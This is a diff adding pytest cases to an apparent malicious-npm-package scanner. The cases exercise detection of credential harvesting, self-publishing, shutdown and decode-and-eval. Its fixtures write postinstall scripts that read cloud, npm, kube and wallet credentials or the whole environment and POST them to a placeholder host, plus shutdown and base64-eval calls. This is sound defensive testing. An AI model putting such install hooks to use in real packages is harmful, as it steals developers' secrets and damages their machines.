@@ -806,3 +806,90 @@ def test_a_wipe_of_the_home_folder_is_high_however_it_is_named(
     )
     (pkg / "i.js").write_text(f"const fs = require('fs'), path = require('path');\n{code}\n")
     assert _found(pkg).get("GH-SABOTAGE-WIPE") == want
+
+
+_HARVEST_HEAD = "const fs = require('fs'), os = require('os'), path = require('path');\n"
+_HARVEST_SEND = (
+    "\nrequire('https').request('https://c.example.invalid/u', {method: 'POST'})"
+    ".end(JSON.stringify(found));\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("code", "want"),
+    [
+        # credential files named as path.join's segments (the regex knew '.aws/credentials' with
+        # its separator only: the two kinds below read as one, the file as nothing)
+        ("[path.join(h, '.npmrc'), path.join(h, '.aws', 'credentials')]", "high"),
+        ('[path.join(h, ".kube", "config"), path.join(h, ".docker", "config.json")]', "high"),
+        ("[join(h, '.config', 'gcloud'), join(h, '.aws', 'config')]", "high"),
+        ("[path.join(h, 'Ethereum', 'keystore'), path.join(h, '.aws', 'credentials')]", "high"),
+        # the whole environment however the code names it (read as nothing before)
+        ("JSON.stringify(process['env'])", "high"),
+        ('JSON.stringify(process["env"], null, 2)', "high"),
+        ("JSON.stringify(globalThis.process.env)", "high"),
+        ("JSON.stringify(require('node:process').env)", "high"),
+        ("Object.entries(process['env'])", "high"),
+        ("JSON.stringify({...process['env']})", "high"),
+        # one kind of credential file, the variables of one prefix, the environment given to a
+        # child process: no harvest
+        ("[path.join(h, '.aws', 'credentials'), path.join(h, '.aws', 'config')]", None),
+        ("Object.keys(process['env']).filter((k) => /^VITE_/.test(k))", None),
+        ("require('child_process').spawn('x', [], {env: process['env']})", None),
+    ],
+)
+def test_a_harvest_is_high_however_the_secrets_are_named(
+    tmp_path: Path, code: str, want: str | None
+) -> None:
+    pkg = tmp_path / "pkg"
+    pkg.mkdir()
+    (pkg / "package.json").write_text(
+        '{"name": "fixture-harvest", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}'
+    )
+    (pkg / "i.js").write_text(
+        f"{_HARVEST_HEAD}const h = os.homedir();\nconst found = {code};{_HARVEST_SEND}"
+    )
+    got = _found(pkg)
+    assert (got.get("GH-CRED-FILE-HARVEST") or got.get("GH-CRED-ENV-HARVEST")) == want, got
+
+
+@pytest.mark.parametrize(
+    ("code", "want"),
+    [
+        # ``npm`` and ``['publish', …]`` given apart (only ``['publish', '--…`` was known)
+        ("cp.execFileSync('npm', ['publish', dir]);", ("GH-PROPAGATE-NPM-PUBLISH", "high")),
+        ("cp.spawn('npm', ['publish'], {cwd: dir});", ("GH-PROPAGATE-NPM-PUBLISH", "high")),
+        (
+            "cp.spawnSync(win ? 'npm.cmd' : 'npm', ['publish'], {cwd: dir});",
+            ("GH-PROPAGATE-NPM-PUBLISH", "high"),
+        ),
+        # the program and its arguments given apart, or through systemd
+        ("cp.spawn('shutdown', ['-h', 'now']);", ("GH-SABOTAGE-SHUTDOWN", "high")),
+        ("cp.execFile('shutdown.exe', ['/s', '/t', '0']);", ("GH-SABOTAGE-SHUTDOWN", "high")),
+        ("cp.exec('systemctl poweroff');", ("GH-SABOTAGE-SHUTDOWN", "high")),
+        # the global eval reached indirectly
+        ("(0, eval)(Buffer.from(P, 'base64').toString());", ("GH-DECODE-EXEC", "high")),
+        ("globalThis.eval(atob(P));", ("GH-DECODE-EXEC", "high")),
+        ("global['eval'](Buffer.from(P, 'base64').toString());", ("GH-DECODE-EXEC", "high")),
+        # near misses: another command, a method of one's own named eval, an argument list
+        ("cp.spawn('npm', ['view', dir, 'version']);", ("GH-PROPAGATE-NPM-PUBLISH", None)),
+        ("cp.spawn('shutdown-hook', ['-h']);", ("GH-SABOTAGE-SHUTDOWN", None)),
+        ("cp.exec('systemctl status');", ("GH-SABOTAGE-SHUTDOWN", None)),
+        ("ctx.global.eval(atob(P));", ("GH-DECODE-EXEC", None)),
+        ("(0, evaluate)(atob(P));", ("GH-DECODE-EXEC", None)),
+    ],
+)
+def test_a_call_is_high_however_its_program_is_named(
+    tmp_path: Path, code: str, want: tuple[str, str | None]
+) -> None:
+    pkg = tmp_path / "pkg"
+    pkg.mkdir()
+    (pkg / "package.json").write_text(
+        '{"name": "fixture-call", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}'
+    )
+    (pkg / "i.js").write_text(
+        "const cp = require('child_process'), dir = '/tmp/p', win = false;\n"
+        f"const P = 'Y29uc29sZS5sb2coMSk=';\n{code}\n"
+    )
+    pattern, confidence = want
+    assert _found(pkg).get(pattern) == confidence
